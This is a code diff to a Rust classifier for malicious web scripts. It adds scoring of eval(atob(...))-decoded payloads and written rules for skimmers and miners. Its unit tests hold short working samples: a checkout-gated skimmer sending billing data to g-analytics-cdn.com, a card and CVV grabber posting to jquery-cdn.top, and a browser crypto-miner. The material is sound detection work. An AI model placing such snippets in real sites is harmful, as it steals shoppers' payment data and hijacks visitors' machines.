@@ -4,12 +4,16 @@
 //! The whole file is scored, and so is the code *outside* its main body when one top-level
 //! statement dominates (a skimmer appended to a library is a few hundred bytes next to 90 KB of
 //! jQuery; scored together it would be diluted). The worse of the two is the answer, and the
-//! reasons say which part it came from.
+//! reasons say which part it came from. Code the script decodes from its own constants
+//! (`eval(atob("…"))`) is analyzed too, and judged by the written rules (`rules.rs`) only: the
+//! model was trained on source files, not on decoded payloads.
 
 use serde::Serialize;
 
 use crate::features::{NGRAM_BUCKETS, SIGNALS};
 use crate::model::{Model, probability, score, sigmoid};
+use crate::rules::{self, Rule};
+use crate::unpack::MAX_PAYLOADS;
 use crate::{Analysis, Options, analyze};
 
 /// Per-category scores, same scale as the overall score.
@@ -71,11 +75,31 @@ const NOT_EVIDENCE: &[&str] = &[
     "globals",
 ];
 
-/// One scored view of a script: the whole file, or a segment of its top-level statements.
+/// Layers of decoding followed (`eval(atob(…))` whose payload decodes again).
+const MAX_DECODE_DEPTH: usize = 3;
+
+/// One scored view of a script: the whole file, a segment of its top-level statements, or
+/// code it decodes at run time.
 pub struct View {
-    /// Byte range of the segment; `None` for the whole file.
+    /// Byte range of the segment; `None` for the whole file and decoded code.
     pub part: Option<(u32, u32)>,
+    /// Layers of decoding that produced this code (0: the source itself). Decoded views are
+    /// judged by the rules only.
+    pub decoded: usize,
+    /// The written rule this view matches, if any.
+    pub rule: Option<Rule>,
     pub analysis: Analysis,
+}
+
+impl View {
+    fn new(part: Option<(u32, u32)>, decoded: usize, analysis: Analysis) -> Self {
+        Self {
+            part,
+            decoded,
+            rule: rules::matching(&analysis),
+            analysis,
+        }
+    }
 }
 
 /// The views `classify` scores: the whole file first, then segments of consecutive top-level
@@ -91,19 +115,25 @@ pub fn views(source: &str, options: &Options) -> Vec<View> {
     let mut out = Vec::new();
     for (start, end) in segments(source, &whole) {
         if let Some(text) = source.get(start as usize..end as usize) {
-            out.push(View {
-                part: Some((start, end)),
-                analysis: analyze(text, &options),
-            });
+            out.push(View::new(Some((start, end)), 0, analyze(text, &options)));
         }
     }
-    out.insert(
-        0,
-        View {
-            part: None,
-            analysis: whole,
-        },
-    );
+    // Decoded code, breadth first: the whole file's payloads, then theirs.
+    let mut queue: std::collections::VecDeque<(usize, String)> =
+        whole.payloads.iter().map(|p| (1, p.clone())).collect();
+    let mut decoded = 0;
+    while let Some((depth, text)) = queue.pop_front() {
+        if decoded == MAX_PAYLOADS {
+            break;
+        }
+        decoded += 1;
+        let analysis = analyze(&text, &options);
+        if depth < MAX_DECODE_DEPTH {
+            queue.extend(analysis.payloads.iter().map(|p| (depth + 1, p.clone())));
+        }
+        out.push(View::new(None, depth, analysis));
+    }
+    out.insert(0, View::new(None, 0, whole));
     out
 }
 
@@ -152,8 +182,19 @@ pub fn classify(source: &str, options: &Options, model: &Model) -> Classificatio
 pub fn classify_views(views: &[View], model: &Model) -> Classification {
     let mut best: Option<Classification> = None;
     for view in views {
-        let mut v = verdict(&view.analysis, model);
-        if let Some((start, end)) = view.part {
+        let mut v = verdict(view, model);
+        if view.decoded > 0 {
+            v.reasons.insert(
+                0,
+                format!(
+                    "code the script decodes at run time ({} bytes, {} layer{} deep) scores {} on its own",
+                    view.analysis.bytes,
+                    view.decoded,
+                    if view.decoded == 1 { "" } else { "s" },
+                    v.score
+                ),
+            );
+        } else if let Some((start, end)) = view.part {
             v.part = Some((start, end));
             v.reasons.insert(
                 0,
@@ -168,52 +209,38 @@ pub fn classify_views(views: &[View], model: &Model) -> Classification {
             best = Some(v);
         }
     }
-    best.unwrap_or_else(|| verdict(&Analysis::refused("", "nothing to classify".into()), model))
+    best.unwrap_or_else(|| {
+        let refused = View::new(None, 0, Analysis::refused("", "nothing to classify".into()));
+        verdict(&refused, model)
+    })
 }
 
-/// Probability that a feature vector is malicious: the model's, raised by the skimmer rule
-/// (training and evaluation use this too, so the threshold accounts for the rule).
+/// The model's probability that a feature vector is malicious (rules not included).
 pub fn malicious_probability(model: &Model, features: &[f32]) -> f32 {
     if features.is_empty() {
         return 0.0;
     }
-    let p = sigmoid(model.malicious_logit(features));
-    if skimmer_rule(features) {
-        p.max(RULE_PROBABILITY)
+    sigmoid(model.malicious_logit(features))
+}
+
+/// Probability a rule match asserts: just over the strictest threshold `threshold_for` can
+/// pick, so a rule match is always flagged.
+pub const RULE_PROBABILITY: f32 = 0.9999;
+
+/// What a view scores: the model's probability raised by a rule match; decoded code by its
+/// rule alone. Training and evaluation use this too, so thresholds account for the rules.
+pub fn view_probability(model: &Model, features: &[f32], decoded: bool, rule: bool) -> f32 {
+    let p = if decoded {
+        0.0
     } else {
-        p
-    }
+        malicious_probability(model, features)
+    };
+    if rule { p.max(RULE_PROBABILITY) } else { p }
 }
 
-/// Probability the skimmer rule asserts: just over the strictest threshold `threshold_for`
-/// can pick, so a rule match is always flagged.
-const RULE_PROBABILITY: f32 = 0.9999;
-/// Largest code (bytes) the rule judges: a skimmer, or the segment it sits in.
-const RULE_MAX_BYTES: f32 = 16_384.0;
-
-/// The BA/Newegg pattern, written down rather than learned (only a few dozen skimmers exist to
-/// learn from): small code that listens for submit or click, reads form fields, has a network
-/// sink (the data flow between them is not required: it is often hidden in ways the cheap
-/// flow analysis cannot follow), and names an absolute URL. Libraries that serialize forms (jQuery) are far
-/// over the size limit as a whole and do not name a collection domain.
-fn skimmer_rule(x: &[f32]) -> bool {
-    let on = |name: &str| x[signal(name)] > 0.0;
-    let size_limit = (1.0 + RULE_MAX_BYTES).log2() / 24.0;
-    on("skimmer_combo")
-        && on("cap:listen:submit-or-click")
-        && on("domains")
-        && x[signal("size")] <= size_limit
-}
-
-fn signal(name: &str) -> usize {
-    SIGNALS
-        .iter()
-        .position(|(n, _)| *n == name)
-        .unwrap_or_else(|| panic!("no signal {name}"))
-}
-
-/// Scores one analysis (the features must have been computed).
-fn verdict(a: &Analysis, model: &Model) -> Classification {
+/// Scores one view (the features must have been computed).
+fn verdict(view: &View, model: &Model) -> Classification {
+    let a = &view.analysis;
     if a.features.is_empty() {
         // Refused input (too big, too deep): no evidence either way; say so.
         return Classification {
@@ -235,7 +262,7 @@ fn verdict(a: &Analysis, model: &Model) -> Classification {
         };
     }
     let z = model.standardize(&a.features);
-    let p = malicious_probability(model, &a.features);
+    let p = view_probability(model, &a.features, view.decoded > 0, view.rule.is_some());
     let t = model.threshold;
     let shares: Vec<f32> = ["magecart", "cryptomining", "malware"]
         .iter()
@@ -243,7 +270,13 @@ fn verdict(a: &Analysis, model: &Model) -> Classification {
         .collect();
     // The most likely category carries the overall probability; the others in proportion.
     let top = shares.iter().copied().fold(f32::MIN_POSITIVE, f32::max);
-    let cat = |i: usize| score(p * shares[i] / top, t);
+    let cat = |i: usize| {
+        // A rule speaks for its own category.
+        let own = view
+            .rule
+            .is_some_and(|r| r.category() == ["magecart", "cryptomining", "malware"][i]);
+        score(if own { p } else { p * shares[i] / top }, t)
+    };
     let categories = Categories {
         magecart: cat(0),
         cryptomining: cat(1),
@@ -260,15 +293,9 @@ fn verdict(a: &Analysis, model: &Model) -> Classification {
                 s,
                 &categories,
             );
-            if skimmer_rule(&a.features) {
+            if let Some(rule) = view.rule {
                 let domains: Vec<&str> = a.domains.iter().map(String::as_str).take(3).collect();
-                r.insert(
-                    usize::from(s < 50),
-                    format!(
-                        "skimmer pattern: on submit or click it reads form fields, it can send data over the network, and it names {}",
-                        domains.join(", ")
-                    ),
-                );
+                r.insert(usize::from(s < 50), rule.reason(&domains));
             }
             r
         },
@@ -385,5 +412,70 @@ mod tests {
         assert_eq!(v.len(), 2, "the whole file and the appended segment");
         let (start, end) = v[1].part.unwrap();
         assert!(appended[start as usize..end as usize].starts_with("var y"));
+    }
+
+    /// A checkout-gated skimmer hidden behind `eval(atob(…))`: only its decoded view shows the
+    /// pattern, and the verdict says so. The same code in clear matches the rule directly.
+    #[test]
+    fn decoded_payloads_are_views_and_a_checkout_gate_is_a_skimmer() {
+        use base64::Engine;
+        let skimmer = r#"
+            if (/onepage|checkout/.test(window.location.href)) {
+                var s = document.createElement('script');
+                s.src = 'https://g-analytics-cdn.com/loader.js';
+                document.head.appendChild(s);
+                setInterval(function () {
+                    var d = document.querySelector('#billing').value;
+                    navigator.sendBeacon('https://g-analytics-cdn.com/c', d);
+                }, 500);
+            }"#;
+        let clear = views(skimmer, &Options::default());
+        assert_eq!(clear[0].rule, Some(Rule::CheckoutGate));
+        let b64 = base64::engine::general_purpose::STANDARD.encode(skimmer);
+        let packed = format!("var k = 1;\neval(atob('{b64}'));\n");
+        let v = views(&packed, &Options::default());
+        assert_eq!(v.len(), 2, "the file and its decoded payload");
+        assert_eq!((v[0].rule, v[1].decoded), (None, 1));
+        assert_eq!(v[1].rule, Some(Rule::CheckoutGate));
+        let c = classify_views(&v, Model::embedded());
+        assert!(c.malicious, "{c:?}");
+        assert!(c.categories.magecart < 50, "{c:?}");
+        assert!(c.reasons[0].starts_with("code the script decodes at run time"));
+        assert!(
+            c.reasons
+                .iter()
+                .any(|r| r.contains("checkout") && r.contains("g-analytics-cdn.com")),
+            "{:?}",
+            c.reasons
+        );
+        // A route table naming the checkout is not a gate.
+        let router = "var routes = {checkout: '/checkout', cart: '/cart'}; if (location.hash) { fetch('https://api.shop.example/' + routes.checkout); }";
+        assert_eq!(views(router, &Options::default())[0].rule, None);
+    }
+
+    #[test]
+    fn card_fields_posted_to_a_named_domain_are_a_skimmer() {
+        let skimmer = "jQuery(document).ready(function () { setInterval(function () { var n = jQuery('#cc_number').val(); if (n) { $.post('https://jquery-cdn.top/g', {n: n, cvv: jQuery('#cvv').val()}); } }, 1000); });";
+        assert_eq!(
+            views(skimmer, &Options::default())[0].rule,
+            Some(Rule::PaymentExfil)
+        );
+        // The same reads posted nowhere named are left to the model.
+        let local = skimmer.replace("https://jquery-cdn.top/g", "/cart/update");
+        assert_eq!(views(&local, &Options::default())[0].rule, None);
+    }
+
+    #[test]
+    fn a_miner_pattern_is_named_as_mining() {
+        let miner = "var threads = navigator.hardwareConcurrency; var w = new Worker('cryptonight.js'); var ws = new WebSocket('wss://pool.minexmr.com:4444'); ws.onmessage = function (m) { w.postMessage({job_id: m.data, throttle: 0.2, hashes: 0}); };";
+        let v = views(miner, &Options::default());
+        assert_eq!(v[0].rule, Some(Rule::Miner));
+        let c = classify_views(&v, Model::embedded());
+        assert!(c.malicious && c.categories.cryptomining < 50, "{c:?}");
+        assert!(
+            c.reasons
+                .iter()
+                .any(|r| r.starts_with("crypto-miner pattern"))
+        );
     }
 }
